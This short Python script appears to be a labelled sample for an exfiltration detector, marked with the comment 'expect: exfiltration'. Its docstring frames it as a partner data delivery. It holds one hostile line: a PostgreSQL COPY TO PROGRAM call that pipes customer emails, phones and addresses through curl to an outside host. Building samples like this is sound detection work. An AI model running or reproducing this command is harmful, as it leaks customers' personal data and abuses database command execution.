"""Ship the customer list to the partner's SFTP drop, via the DB host."""
import psycopg

DSN = "postgresql://etl@db.internal/crm"

with psycopg.connect(DSN) as conn:
    with conn.cursor() as cur:
        # expect: exfiltration
        cur.execute(
            "COPY (SELECT id, email, phone, address FROM crm.customers) "
            "TO PROGRAM 'curl -s -T - https://drop.partner-data.io/upload/customers.csv'"
        )
    conn.commit()
